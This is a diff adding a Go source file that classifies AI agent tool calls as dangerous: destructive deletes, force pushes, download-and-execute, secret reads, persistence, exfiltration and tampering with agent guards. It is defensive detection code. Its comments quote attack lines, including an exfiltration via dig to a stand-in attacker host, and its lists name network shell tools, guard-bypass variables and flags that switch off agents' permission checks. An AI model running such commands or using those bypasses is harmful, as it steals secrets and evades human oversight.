@@ -1,0 +1,349 @@
+// Package danger says which tool calls are dangerous, and why, as a list
+// of categories named as in the battery's candidates. It decides on the
+// parsed command (engine/shell: after wrapper stripping, through sudo/env
+// and find -exec, and into literal bash -c / eval scripts), never on
+// regular expressions over the raw line, and on the paths file tools name.
+//
+// What it cannot see, it does not guess: code inside interpreter strings
+// (python -c, node -e), commands built from variables, and what a script
+// file or a make target does.
+package danger
+
+import (
+	"path"
+	"slices"
+	"strings"
+
+	"github.com/permsim/permsim/engine"
+	"github.com/permsim/permsim/engine/shell"
+)
+
+// The danger categories Check reports.
+const (
+	DestructiveDelete       = "destructive-delete"
+	ForcePush               = "force-push"
+	GitHistoryRewrite       = "git-history-rewrite"
+	GitDiscardWorktree      = "git-discard-worktree"
+	DownloadExecute         = "download-execute"
+	SecretRead              = "secret-read"
+	PersistenceStartupFiles = "persistence-startup-files"
+	GitHooksConfig          = "git-hooks-config"
+	AgentConfigTamper       = "agent-config-tamper"
+	NetworkExfiltration     = "network-exfiltration"
+)
+
+// maxDepth bounds how deep Check follows bash -c inside bash -c and
+// wrappers inside wrappers.
+const maxDepth = 6
+
+// Check returns the danger categories of a call, sorted and unique; empty
+// means not dangerous. project and home are absolute; the call's Cwd (the
+// project when empty) is where a shell command starts.
+//
+// For shell commands see the category constants; for file tools: reading
+// (read, grep) or editing/writing a secret file is secret-read; editing or
+// writing a file other programs run later is persistence-startup-files
+// (git hooks and git config: git-hooks-config); editing or writing agent
+// settings is agent-config-tamper.
+func Check(call engine.Call, project, home string) []string {
+	cwd := call.Cwd
+	if cwd == "" {
+		cwd = project
+	}
+	c := &checker{project: path.Clean(project), home: home, set: map[string]bool{}}
+	cwd = shell.Resolve(cwd, c.project, home)
+	switch call.Tool {
+	case engine.ToolBash:
+		c.script(shell.Parse(call.Command), cwd, 0)
+	case engine.ToolRead, engine.ToolGrep:
+		for _, p := range callPaths(call, cwd, home) {
+			if SecretFile(p) {
+				c.add(SecretRead)
+			}
+		}
+	case engine.ToolEdit, engine.ToolWrite:
+		for _, p := range callPaths(call, cwd, home) {
+			if SecretFile(p) {
+				c.add(SecretRead) // editing shows the secret to the model; overwriting loses it
+			}
+			c.add(writeCategories(p, false)...)
+		}
+	}
+	out := make([]string, 0, len(c.set))
+	for k := range c.set {
+		out = append(out, k)
+	}
+	slices.Sort(out)
+	return out
+}
+
+// inputPathKeys are the argument names file tools put their path in.
+var inputPathKeys = []string{"file_path", "path", "notebook_path", "filePath", "absolute_path", "filename"}
+
+// callPaths returns the absolute paths a file tool call names: Paths, or
+// failing that the tool's own path argument.
+func callPaths(call engine.Call, cwd, home string) []string {
+	ps := call.Paths
+	if len(ps) == 0 {
+		for _, k := range inputPathKeys {
+			if s, ok := call.Input[k].(string); ok && s != "" {
+				ps = append(ps, s)
+				break
+			}
+		}
+	}
+	out := make([]string, 0, len(ps))
+	for _, p := range ps {
+		out = append(out, shell.Resolve(p, cwd, home))
+	}
+	return out
+}
+
+type checker struct {
+	project, home string
+	set           map[string]bool
+}
+
+func (c *checker) add(cats ...string) {
+	for _, k := range cats {
+		c.set[k] = true
+	}
+}
+
+// unit is one command as danger looks at it: the command, where it runs,
+// and whether xargs feeds it its arguments.
+type unit struct {
+	cmd       shell.Command
+	dir       string
+	fromXargs bool
+}
+
+// expand returns the command and what its unstripped wrappers run, with
+// the folder each runs in; start is the folder the line starts in.
+func (c *checker) expand(cmd shell.Command, dir, start string) []unit {
+	var out []unit
+	var walk func(u unit, depth int)
+	walk = func(u unit, depth int) {
+		out = append(out, u)
+		if depth >= maxDepth {
+			return
+		}
+		for _, in := range u.cmd.Inside() {
+			d := u.dir
+			if in.Cwd != u.cmd.Cwd && in.Cwd != "" {
+				d = shell.Resolve(in.Cwd, start, c.home)
+			}
+			walk(unit{cmd: in, dir: d, fromXargs: u.fromXargs || path.Base(u.cmd.Name) == "xargs"}, depth+1)
+		}
+	}
+	walk(unit{cmd: cmd, dir: dir, fromXargs: slices.Contains(cmd.Wrappers, "xargs")}, 0)
+	return out
+}
+
+// script checks every command of s, then what spans several commands.
+func (c *checker) script(s *shell.Script, cwd string, depth int) {
+	units := make([][]unit, len(s.Commands))
+	for i, cmd := range s.Commands {
+		dir := cwd
+		if cmd.Cwd != "" {
+			dir = shell.Resolve(cmd.Cwd, cwd, c.home)
+		}
+		units[i] = c.expand(cmd, dir, cwd)
+		for _, u := range units[i] {
+			c.command(u)
+			if depth < maxDepth {
+				if in := u.cmd.Inner(); in != nil {
+					c.script(in, u.dir, depth+1)
+				}
+			}
+		}
+	}
+	c.pipelines(s, units)
+	c.downloadThenRun(units)
+	c.remotePush(units)
+}
+
+// command checks one command on its own.
+func (c *checker) command(u unit) {
+	cmd := &u.cmd
+	for _, a := range cmd.Assigns {
+		if bypassVariable(a.Name) {
+			c.add(AgentConfigTamper)
+		}
+	}
+	for _, f := range cmd.Files() {
+		p := shell.Resolve(f.Path, u.dir, c.home)
+		if f.Read && SecretFile(p) {
+			c.add(SecretRead)
+		}
+		if f.Write {
+			c.add(writeCategories(p, isDelete(f.Via))...)
+		}
+	}
+	if cmd.Dynamic || cmd.Name == "" {
+		return
+	}
+	switch name := path.Base(cmd.Name); name {
+	case "rm":
+		if c.rmDangerous(u) {
+			c.add(DestructiveDelete)
+		}
+	case "shred":
+		c.add(DestructiveDelete)
+	case "find":
+		if findDeletes(cmd) {
+			c.add(DestructiveDelete)
+		}
+	case "truncate":
+		c.truncate(u)
+	case "git":
+		c.git(u)
+	case "curl", "wget":
+		c.upload(u, name)
+		if downloadsScript(cmd, name) {
+			c.add(DownloadExecute)
+		}
+	case "nc", "ncat", "netcat", "socat", "telnet":
+		for _, r := range cmd.Redirects {
+			if r.Read {
+				c.add(NetworkExfiltration)
+			}
+		}
+	case "scp", "rsync", "sftp":
+		c.copyOut(u)
+	case "gh":
+		c.gh(u)
+	case "env", "printenv":
+		if printsEnvironment(cmd) {
+			c.add(SecretRead)
+		}
+	case "grep", "egrep", "fgrep", "rg", "ag":
+		if searchesForSecrets(cmd.Args) {
+			c.add(SecretRead)
+		}
+	case "crontab":
+		if !hasLit(cmd.Args, "-l", "-T") {
+			c.add(PersistenceStartupFiles)
+		}
+	case "launchctl":
+		if firstVerbIn(cmd.Args, "load", "bootstrap", "enable", "submit") {
+			c.add(PersistenceStartupFiles)
+		}
+	case "systemctl":
+		if firstVerbIn(cmd.Args, "enable", "reenable", "link", "preset", "add-wants", "add-requires", "edit") {
+			c.add(PersistenceStartupFiles)
+		}
+	case "npx", "pnpx", "bunx", "uvx":
+		if fetchesPackage(cmd.Args) {
+			c.add(DownloadExecute)
+		}
+	case "pnpm", "yarn":
+		if len(cmd.Args) > 1 && cmd.Args[0].Lit == "dlx" && fetchesPackage(cmd.Args[1:]) {
+			c.add(DownloadExecute)
+		}
+	case "pipx":
+		if len(cmd.Args) > 0 && cmd.Args[0].Lit == "run" {
+			c.add(DownloadExecute)
+		}
+	case "pip", "pip3", "python", "python3":
+		if pipInstallsURL(name, cmd.Args) {
+			c.add(DownloadExecute)
+		}
+	case "dcg":
+		// destructive_command_guard's own allowlist is a guard's rule file.
+		if firstVerbIn(cmd.Args, "allowlist") && hasLit(cmd.Args, "add") {
+			c.add(AgentConfigTamper)
+		}
+	case "claude", "codex", "gemini":
+		if startsUnguardedAgent(name, cmd.Args) {
+			c.add(AgentConfigTamper)
+		}
+	}
+	if name := path.Base(cmd.Name); interpreters[name] || name == "source" || name == "." {
+		// "bash <(curl …)", "sh -c \"$(curl …)\"": the script is fetched
+		// inside the command's own words.
+		for _, a := range cmd.Args {
+			if !a.Literal && wordDownloads(a) {
+				c.add(DownloadExecute)
+			}
+		}
+	}
+	if credentialPrinter(cmd) {
+		c.add(SecretRead)
+	}
+	if shell.NeedsNetwork(cmd) {
+		// "dig $(cat .env | base64).attacker.example": a network command
+		// whose words carry a secret.
+		for _, a := range cmd.Args {
+			if !a.Literal && wordReadsSecret(a, u.dir, c.home) {
+				c.add(NetworkExfiltration)
+			}
+		}
+	}
+}
+
+func isDelete(via string) bool {
+	switch via {
+	case "rm", "rmdir", "unlink", "shred", "find -delete", "find -exec":
+		return true
+	}
+	return false
+}
+
+func hasLit(words []shell.Word, lits ...string) bool {
+	for _, w := range words {
+		if w.Literal && slices.Contains(lits, w.Lit) {
+			return true
+		}
+	}
+	return false
+}
+
+// firstVerbIn reports whether the first word that is not an option is one
+// of verbs.
+func firstVerbIn(words []shell.Word, verbs ...string) bool {
+	for _, w := range words {
+		if !w.Literal {
+			return false
+		}
+		if strings.HasPrefix(w.Lit, "-") {
+			continue
+		}
+		return slices.Contains(verbs, w.Lit)
+	}
+	return false
+}
+
+// bypassVariable reports whether an assignment turns off a command guard
+// (cc-safety-net's SAFETY_NET_ALLOW, or any *BYPASS* switch).
+func bypassVariable(name string) bool {
+	n := strings.ToUpper(name)
+	return n == "SAFETY_NET_ALLOW" || n == "SAFETY_NET_DISABLE" || strings.Contains(n, "BYPASS")
+}
+
+// startsUnguardedAgent reports whether an agent is started with its
+// permission checks off.
+func startsUnguardedAgent(name string, args []shell.Word) bool {
+	for i, a := range args {
+		if !a.Literal {
+			continue
+		}
+		switch name {
+		case "claude":
+			if a.Lit == "--dangerously-skip-permissions" || a.Lit == "--permission-mode=bypassPermissions" ||
+				a.Lit == "--permission-mode" && i+1 < len(args) && args[i+1].Lit == "bypassPermissions" {
+				return true
+			}
+		case "codex":
+			if a.Lit == "--dangerously-bypass-approvals-and-sandbox" || a.Lit == "--yolo" {
+				return true
+			}
+		case "gemini":
+			if a.Lit == "--yolo" || a.Lit == "-y" || a.Lit == "--approval-mode=yolo" ||
+				a.Lit == "--approval-mode" && i+1 < len(args) && args[i+1].Lit == "yolo" {
+				return true
+			}
+		}
+	}
+	return false
+}
